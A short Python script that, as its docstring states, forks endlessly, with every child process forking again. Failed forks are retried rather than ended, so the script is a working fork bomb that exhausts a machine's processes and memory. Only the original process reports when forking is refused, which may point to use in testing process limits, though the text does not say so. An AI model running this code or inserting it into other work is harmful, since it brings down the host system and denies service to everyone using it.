"""Forks endlessly, as does every child."""

import os
import time

first = os.getpid()
reported = False
while True:
    try:
        os.fork()
    except OSError as error:
        if os.getpid() == first and not reported:
            print(f"refused to fork: {error.strerror}", flush=True)
            reported = True
        time.sleep(0.01)
